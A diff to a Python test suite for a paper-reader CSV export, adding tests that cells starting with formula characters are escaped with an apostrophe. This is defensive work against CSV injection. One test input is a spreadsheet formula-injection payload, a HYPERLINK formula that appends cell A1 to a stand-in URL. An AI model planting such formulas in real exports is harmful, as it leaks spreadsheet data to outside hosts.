@@ -4,13 +4,14 @@ import csv
 import io
 from html.parser import HTMLParser
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from reader.export.html import html_page, rendered
 from reader.export.model import ENGLISH, KOREAN, ExportedPaper
 from reader.export.table import COLUMNS, table
-from reader.posts.model import Section, SectionKind
+from reader.posts.model import Points, Section, SectionKind
 from reader.posts.plain import parser
 from tests.export.exported import HARD_TITLES, NOTE, exported, marked
 
@@ -39,6 +40,9 @@ def page(*papers: ExportedPaper) -> str:
     return "".join(html_page(papers, ENGLISH, "en"))
 
 
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
 def rows(*papers: ExportedPaper) -> list[dict[str, str]]:
     text = "".join(table(papers))
     assert text.startswith("\ufeff")
@@ -60,7 +64,24 @@ def test_a_line_of_csv_has_all_of_a_paper() -> None:
 @given(ANY_TEXT, ANY_TEXT)
 def test_any_text_comes_through_csv(title: str, note: str) -> None:
     (row,) = rows(exported(title or "x", note=note))
-    assert (row["title"], row["note"]) == (title or "x", note)
+    for cell, text in ((row["title"], title or "x"), (row["note"], note)):
+        assert cell in (text, f"'{text}")
+        assert cell[:1] not in FORMULAS
+
+
+@pytest.mark.parametrize("sign", FORMULAS)
+def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(sign: str) -> None:
+    text = f'{sign}HYPERLINK("https://example.org/?"&A1)'
+    (row,) = rows(exported(text, note=text, tags=(text,), labels=(text,), points=Points(goal=text)))
+    for column in ("title", "note", "tags", "labels"):
+        assert row[column] == f"'{text}", column
+    assert row["goal"][0] not in FORMULAS
+
+
+def test_other_cells_are_as_they_were() -> None:
+    text = "a=b, 'c' -d"
+    (row,) = rows(exported(text, note=f"'{text}"))
+    assert (row["title"], row["note"]) == (text, f"'{text}")
 
 
 def test_hard_titles_are_words_of_the_page() -> None:
